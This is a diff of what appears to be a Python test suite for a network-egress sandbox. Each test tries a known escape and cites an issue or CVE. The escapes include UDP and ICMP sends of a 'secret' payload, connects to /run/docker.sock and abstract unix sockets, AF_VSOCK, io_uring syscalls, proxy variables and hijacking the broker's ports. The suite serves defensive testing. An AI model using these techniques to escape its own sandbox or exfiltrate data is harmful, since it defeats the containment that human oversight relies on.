@@ -1,94 +1,10 @@
-"""Attempts by what is said in a connection, and by other ways than connections."""
+"""Attempts by other ways than connections to hosts."""
 import ctypes, os, socket, struct, subprocess
 
-from attempts import (ALLOWED, CONNECTED, LIBC, OTHER, SEEN_HTTP, address_of, ask, attempt, hello, http, question,
-                      quietly, send, tcp)
+from attempts import (ALLOWED, LIBC, OTHER, SEEN_HTTP, address_of, ask, attempt, listening, quietly, send, tcp)
 
 
-# What is said.
-@attempt(seen=CONNECTED)
-def another_server_name():
-    hello([b"shared.example"]), hello([b"other.example"]), hello([b"www.wild.example"])
-
-
-@attempt(seen=CONNECTED)
-def no_server_name():
-    hello([]), hello([b""])
-
-
-@attempt(seen=CONNECTED)
-def two_server_names():
-    hello([b"allowed.example", b"shared.example"]), hello([b"shared.example", b"allowed.example"])
-
-
-@attempt(seen=CONNECTED)
-def server_names_with_odd_characters():
-    for name in (b"shared.example\0.allowed.example", b"allowed.example\0.shared.example", b"allowed.example/",
-                 b" allowed.example", b"allowed.example ", b"allowed..example", b"shared.example.allowed.example"):
-        hello([name])
-
-
-@attempt(seen=CONNECTED)
-def another_server_name_in_pieces():
-    hello([b"shared.example"], pieces=1), hello([b"shared.example"], pieces=7, pause=0.05)
-
-
-@attempt(seen=CONNECTED)
-def another_server_name_behind_a_second_extension():
-    entry = b"\0" + struct.pack(">H", 14) + b"shared.example"
-    more = struct.pack(">HHH", 0, len(entry) + 2, len(entry)) + entry
-    hello([b"allowed.example"], extensions=more), hello([], extensions=more)
-
-
-@attempt(seen=CONNECTED)
-def no_tls_on_its_port():
-    send("allowed.example", 443, b"GET / HTTP/1.1\r\nHost: shared.example\r\n\r\n")
-    send("allowed.example", 443, b"SSH-2.0-x\r\n"), send("allowed.example", 443, bytes(100))
-
-
-@attempt(seen=CONNECTED)
-def records_without_end():
-    send("allowed.example", 443, b"\x16\3\1\x40\0\1\0\xff\xff" + bytes(40000), pieces=4000)
-
-
-@attempt(seen=CONNECTED)
-def another_host():
-    for head in ("Host: shared.example", "host:shared.example", "HOST:\tshared.example", "Host: other.example:80",
-                 "Host: allowed.example@shared.example", "Host: allowed.example.shared.example", "Host: ", "X: y",
-                 "Host: allowed.example\r\nHost: shared.example", "Host: shared.example\r\nHost: allowed.example",
-                 "Host : allowed.example", "Host: allowed.example, shared.example", "Host: allowed.example\0shared"):
-        http(f"GET / HTTP/1.1\r\n{head}\r\n\r\n")
-
-
-@attempt(seen=CONNECTED)
-def another_target():
-    for target in ("http://shared.example/", "HTTP://Shared.Example/", "http://allowed.example@shared.example/"):
-        http(f"GET {target} HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
-    http("CONNECT shared.example:443 HTTP/1.1\r\nHost: shared.example:443\r\n\r\n")
-
-
-@attempt(seen=CONNECTED)
-def requests_in_old_forms():
-    for head in ("GET /\r\n\r\n", "GET / HTTP/1.0\r\n\r\n", "GET / HTTP/1.1\n\nHost: allowed.example\n\n",
-                 "GET / HTTP/1.1\r\nX: y\r\n Host: allowed.example\r\n\r\n", "\0\0\0\0\r\n\r\n", "PRI * HTTP/2.0\r\n\r\n"):
-        http(head)
-
-
-@attempt(seen=CONNECTED)
-def a_head_without_end():
-    send("allowed.example", 80, b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 20000, pieces=60000)
-
-
-# Names that lead elsewhere.
-@attempt(flags=["--connect", "private.example:80", "--connect", "metadata.example:80", "--connect", "loop.example:80"],
-         seen=["question private.example", "question metadata.example", "question loop.example"])
-def names_that_lead_to_private_addresses():
-    for name in ("private.example", "metadata.example", "loop.example"):
-        send(name, 80, f"GET / HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
-
-
-# Other ways.
-@attempt()
+@attempt("navikt/cplt#241: UDP is unrestricted, including under proxy-forced")
 def datagrams():
     for address in (ALLOWED, OTHER, "198.18.0.2", "203.0.113.53", "255.255.255.255", "127.0.0.1"):
         for port in (9, 53, 80, 443):
@@ -99,7 +15,7 @@ def datagrams():
                 quietly(lambda: s.send(b"secret"))
 
 
-@attempt()
+@attempt("mensfeld/code-on-incus#475: scope allowlist egress to TCP/UDP + rate-limited ICMP")
 def other_protocols():
     for family in (2, 10, 16, 17, 30, 31, 38, 40, 43, 44):
         for kind in (1, 2, 3, 5, 10):
@@ -116,18 +32,18 @@ def other_protocols():
                     pass
 
 
-@attempt()
+@attempt("landlock-lsm/linux#41: Restrict TCP Fast Open connection (TCP_FASTOPEN_CONNECT)")
 def options_of_sockets():
     with socket.socket() as s:
-        for level, option, value in ((0, 19, 1), (41, 75, 1), (1, 36, 1), (6, 19, 1), (1, 25, b"eth0\0"), (6, 31, b"smc\0"),
-                                     (6, 42, 1)):
+        for level, option, value in ((0, 19, 1), (41, 75, 1), (1, 36, 1), (6, 19, 1), (1, 25, b"out\0"), (6, 30, 1),
+                                     (6, 31, b"smc\0"), (6, 42, 1)):
             quietly(lambda: s.setsockopt(level, option, value))
         s.settimeout(1)
         quietly(lambda: s.connect((OTHER, 80)))
         quietly(lambda: s.send(b"x"))
 
 
-@attempt()
+@attempt("AdnaneKhan/Cacheract#15: Bypass Step Security Harden Runner (if running)")
 def routes_and_interfaces():
     def change(kind, flags, body):
         with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
@@ -156,7 +72,7 @@ def other_namespaces():
     tcp(OTHER, 80)
 
 
-@attempt()
+@attempt("landlock-lsm/linux#33: Socket FDs sharing control")
 def the_broker_as_a_process():
     for process in range(1, 400):
         quietly(lambda: os.kill(process, 0) if process != os.getpid() else None)
@@ -171,20 +87,29 @@ def the_broker_as_a_process():
     tcp(OTHER, 80)
 
 
-@attempt()
+@attempt("openai/codex#10814: block io_uring syscalls in no-network seccomp policy")
 def a_ring():
     LIBC.syscall(425, 8, ctypes.create_string_buffer(120))
     tcp(OTHER, 80)
 
 
-@attempt()
+@attempt("CVE-2020-15257: containerd-shim: abstract sockets in the host's network (GHSA-36xw-fx78-c5r4)")
+def abstract_sockets():
+    with open("/proc/net/unix") as table:
+        names = [row.split()[-1] for row in table.read().splitlines()[1:] if row.split()[-1].startswith("@")]
+    for name in ["@/containerd-shim/x.sock", "@/tmp/.X11-unix/X0", *names]:
+        with socket.socket(socket.AF_UNIX) as s:
+            quietly(lambda: s.connect("\0" + name[1:]))
+
+
+@attempt("GreyhavenHQ/greywall#55: Sandbox escape via host sockets exposed in /run")
 def sockets_of_unix():
-    for name in ("\0abstract", "/run/docker.sock", "/run/systemd/resolve/io.systemd.Resolve", "/run/nscd/socket"):
+    for name in ("/run/docker.sock", "/run/systemd/resolve/io.systemd.Resolve", "/run/nscd/socket"):
         with socket.socket(socket.AF_UNIX) as s:
             quietly(lambda: s.connect(name))
 
 
-@attempt()
+@attempt("docker/sbx-releases#240: Upstream proxy CONNECT requests use wrong target port")
 def variables_for_proxies():
     for name in ("http_proxy", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY"):
         os.environ[name] = "*" if name == "NO_PROXY" else f"http://{OTHER}:80"
@@ -193,7 +118,8 @@ def variables_for_proxies():
 
 @attempt()
 def a_run_inside():
-    words = [os.environ["SBX_PROGRAM"], "run", "-q", "--net", "host", "--", "curl", "-sS", "-m", "3", f"http://{OTHER}/"]
+    curl = ["curl", "-sS", "-m", "3", f"http://{OTHER}/"]
+    words = [os.environ["SBX_PROGRAM"], "run", "-q", "--net", "host", "--", *curl]
     quietly(lambda: subprocess.run(words, capture_output=True))
 
 
@@ -204,7 +130,7 @@ def many_connections():
     del held
 
 
-@attempt(seen=SEEN_HTTP)
+@attempt("tpm2-software/tpm2-tss#318: another process can steal connections", seen=SEEN_HTTP)
 def a_server_in_the_place_of_a_host():
     def serve():
         with socket.socket() as s:
@@ -228,3 +154,54 @@ def bytes_after_the_end():
             s.send(b"x")
 
     quietly(talk)
+
+
+@attempt("moby/moby#44562: block socket calls to AF_VSOCK in default profile")
+def sockets_of_virtual_machines():
+    for context in (0, 1, 2, 3):
+        def talk():
+            with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
+                s.settimeout(1)
+                s.connect((context, 80))
+                s.send(b"secret")
+
+        quietly(talk)
+
+
+@attempt("boxlite-ai/boxlite#1090: apply allow_net to UDP egress", seen=["question allowed.example"])
+def quic():
+    initial = b"\xc3\0\0\0\1\x08" + b"R" * 8 + b"\0\0\x44\xb0" + bytes(1200)
+    for address in (address_of("allowed.example"), ALLOWED, OTHER):
+        with socket.socket(type=socket.SOCK_DGRAM) as s:
+            quietly(lambda: s.sendto(initial, (address, 443)))
+
+
+@attempt("mensfeld/code-on-incus#475: ICMP tunnelling to an allowed address")
+def echo_requests():
+    request = struct.pack(">BBHHH", 8, 0, 0xF7FE, 0, 1)
+    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
+        for address in (ALLOWED, OTHER):
+            def talk():
+                with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as s:
+                    s.sendto(request + b"secret", (address, 0))
+
+            quietly(talk)
+
+
+@attempt("tpm2-software/tpm2-tss#318: SO_REUSEPORT: another process can steal connections", seen=SEEN_HTTP)
+def the_brokers_ports_taken():
+    held = []
+    for port in (53, 80, *listening()):
+        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
+            for address in ("0.0.0.0", "198.18.0.2", OTHER):
+                for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
+                    def take():
+                        s = socket.socket(socket.AF_INET, kind)
+                        s.setsockopt(socket.SOL_SOCKET, option, 1)
+                        s.setsockopt(0, 15, 1)  # IP_FREEBIND
+                        s.bind((address, port))
+                        held.append(s)
+
+                    quietly(take)
+    send("allowed.example", 80, b"GET / HTTP/1.1\r\nHost: shared.example\r\n\r\n")
+    tcp(OTHER, 80)
